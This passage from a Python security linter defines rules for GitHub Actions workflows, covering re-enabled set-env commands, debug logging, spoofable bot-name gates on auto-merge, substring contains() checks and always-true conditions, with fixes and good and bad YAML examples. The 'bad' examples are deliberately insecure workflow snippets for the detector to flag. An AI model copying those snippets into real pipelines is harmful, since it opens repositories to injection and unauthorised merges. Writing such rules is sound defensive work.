        ),
    ),
    Rule(
        id="actions-insecure-commands",
        family="config",
        title="the disabled commands set-env and add-path are switched on again",
        severity="high",
        tier="block",
        cwe=78,
        why="With them, anything that prints a line to the log, such as a test or a commit message, can set environment variables and paths of later steps.",
        fix="Take ACTIONS_ALLOW_UNSECURE_COMMANDS out and write to $GITHUB_ENV and $GITHUB_PATH instead.",
        match=Keys(BOTH, ("**.env.ACTIONS_ALLOW_UNSECURE_COMMANDS",), is_true, mend=Replace("false", safe=False)),
        equivalents=(
            "zizmor:insecure-commands",
            "kics:60fd272d",
            "checkov:CKV_GHA_1",
            "semgrep:allowed-unsecure-commands",
            "octoscan:unsecure-commands",
        ),
        references=("https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/",),
        bad=(
            Example(
                "on: push\npermissions: {}\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: «true»\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
            ),
            steps("push", "      - run: make\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: «'true'»\n"),
        ),
        good=(
            steps("push", "      - run: make\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n"),
            steps("push", "      - run: make\n        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: ${{ vars.OLD }}\n"),
        ),
    ),
    Rule(
        id="actions-debug-logging",
        family="config",
        title="debug logging is on for every run",
        severity="low",
        tier="warn",
        cwe=532,
        why="Debug logs hold the environment and inputs of every step; what is not masked is readable for whoever may read the log.",
        fix="Take it out; switch debug logging on for a single run when re-running it.",
        match=Keys(BOTH, ("**.env.{ACTIONS_RUNNER_DEBUG,ACTIONS_STEP_DEBUG}",), is_true, mend=Replace("false")),
        equivalents=("poutine:debug_enabled",),
        references=("https://docs.github.com/en/actions/how-tos/monitor-workflows/enable-debug-logging",),
        bad=(steps("push", "      - run: make\n        env:\n          ACTIONS_STEP_DEBUG: «true»\n"),),
        good=(
            steps("push", "      - run: make\n        env:\n          ACTIONS_RUNNER_DEBUG: ${{ vars.DEBUG }}\n"),
            steps("push", "      - run: make\n        env:\n          ACTIONS_STEP_DEBUG: false\n"),
        ),
    ),
    Rule(
        id="actions-spoofable-bot",
        family="config",
        title="a bot's name is the gate, and it can be spoofed",
        severity="high",
        tier="block",
        cwe=290,
        why="github.actor is who caused the last event. A stranger can make a bot act on a pull request that carries the stranger's commit, and passes this test with the repository's token.",
        fix="Test who wrote the change and where it comes from: github.event.pull_request.user.login == 'dependabot[bot]' together with head.repo.full_name == github.repository.",
        match=Custom(WORKFLOW, conditions.spoofable_bot, ("if",)),
        equivalents=(
            "zizmor:bot-conditions",
            "poutine:confused_deputy_auto_merge",
            "octoscan:bot-check",
        ),
        references=("https://www.synacktiv.com/publications/github-actions-exploitation-dependabot",),
        bad=(
            Example(
                job("pull_request_target", "    if: «github.actor == 'dependabot[bot]'»\n    steps:\n      - run: gh pr merge --auto\n")
            ),
            Example(
                job(
                    "workflow_run",
                    "    if: ${{ github.event_name == 'x' || «'renovate[bot]' == github['ACTOR']» }}\n    steps:\n      - run: gh pr merge --auto\n",
                )
            ),
            Example(job("pull_request_target", "    if: «github.actor_id == 49699333»\n    steps:\n      - run: gh pr merge --auto\n")),
        ),
        good=(
            Example(
                job(
                    "pull_request_target",
                    "    if: github.event.pull_request.user.login == 'dependabot[bot]'\n    steps:\n      - run: gh pr merge --auto\n",
                )
            ),
            Example(job("pull_request_target", "    if: ${{ github.actor != 'dependabot[bot]' }}\n    steps:\n      - run: ./notify\n")),
            Example(job("pull_request_target", "    if: github.actor == 'octocat'\n    steps:\n      - run: ./notify\n")),
            Example(
                job(
                    "pull_request_target",
                    "    if: github.actor == 'dependabot[bot]' && github.event.pull_request.user.login == 'dependabot[bot]'\n    steps:\n      - run: gh pr merge --auto\n",
                )
            ),
        ),
    ),
    Rule(
        id="actions-actor-gate",
        family="config",
        title="a bot's name is the gate",
        severity="low",
        tier="audit",
        cwe=290,
        confidence="low",
        why="github.actor is who caused the last event, not who wrote the change. Here strangers get no token, but the test is as weak when the trigger changes.",
        fix="Test github.event.pull_request.user.login instead.",
        match=Custom(WORKFLOW, conditions.actor_gate, ("if",)),
        equivalents=(
            "zizmor:bot-conditions",
            "octoscan:bot-check",
        ),
        references=("https://www.synacktiv.com/publications/github-actions-exploitation-dependabot",),
        bad=(Example(job("pull_request", "    if: «github.actor == 'dependabot[bot]'»\n    steps:\n      - run: ./check\n")),),
        good=(
            Example(
                job(
                    "pull_request",
                    "    if: ${{ github.event.pull_request.user.login == 'dependabot[bot]' }}\n    steps:\n      - run: ./check\n",
                )
            ),
        ),
    ),
    Rule(
        id="actions-unsound-contains",
        family="config",
        title="contains() tests a part of a string, not an entry of a list",
        severity="medium",
        tier="block",
        cwe=697,
        why="contains('main develop', github.ref_name) also holds for a branch named 'a' or 'dev': the gate is open for names that were never meant.",
        fix='Compare with ==, or test a list: contains(fromJSON(\'["main", "develop"]\'), github.ref_name).',
        match=Custom(BOTH, conditions.substring_of_literal),
        equivalents=("zizmor:unsound-contains",),
        references=("https://docs.github.com/en/actions/reference/workflows-and-actions/expressions#contains",),
        bad=(
            steps("push", "      - run: make\n        if: «contains('refs/heads/main refs/heads/develop', github.ref)»\n"),
            steps("push", "      - run: make\n        if: ${{ «contains('main,prod', github.ref_name)» == true }}\n"),
        ),
        good=(
            steps("push", '      - run: make\n        if: contains(fromJSON(\'["main", "prod"]\'), github.ref_name)\n'),
            steps("push", "      - run: make\n        if: ${{ contains(github.ref, 'release/') }}\n"),
        ),
    ),
    Rule(
        id="actions-always-true-condition",
        family="config",
        title="this condition is always true",
        severity="high",
        tier="block",
        cwe=571,
        why="When anything, even a line break, stands outside of ${{ }}, the whole is a string, and a string that is not empty is true.",
        fix="Put the whole condition into one ${{ … }} or use none; in a block scalar write |- so that no line break follows.",
        match=Custom(BOTH, conditions.always_true, ("if",)),
        equivalents=("zizmor:unsound-condition", "poutine:if_always_true", "actionlint:if-cond"),
        references=("https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idif",),
        bad=(
            steps("push", "      - run: make\n        if: «${{ github.ref == 'refs/heads/main' }} && github.event_name == 'push'»\n"),
            steps("push", "      - run: make\n        if: «|»\n          ${{ github.ref == 'refs/heads/main' }}\n"),
        ),
        good=(
            steps("push", "      - run: make\n        if: ${{ github.ref == 'refs/heads/main' }}\n"),
            steps("push", "      - run: make\n        if: |-\n          ${{ github.ref == 'refs/heads/main' }}\n"),
            steps(
                "push",
                "      - run: make\n        if: |\n          github.ref == 'refs/heads/main' &&\n          github.event_name == 'push'\n",
            ),
        ),
    ),
    Rule(
        id="actions-unsound-ternary",
        family="config",
        title="this choice always takes its second value",
        severity="low",
        tier="warn",
        cwe=783,
        why="cond && '' || x gives x in every case: what stands behind && is falsy, so || goes on to x.",
        fix="Turn the condition round: !cond && x || ''.",
        match=Custom(BOTH, conditions.falsy_ternary),
        equivalents=("zizmor:unsound-ternary",),
        references=("https://docs.github.com/en/actions/reference/workflows-and-actions/expressions#operators",),
        bad=(
            steps(
                "push", "      - run: make\n        env:\n          FLAG: ${{ «github.ref == 'refs/heads/main' && '' || '--dry-run'» }}\n"
            ),
        ),
        good=(
            steps("push", "      - run: make\n        env:\n          FLAG: ${{ github.ref != 'refs/heads/main' && '--dry-run' || '' }}\n"),
        ),
    ),
)
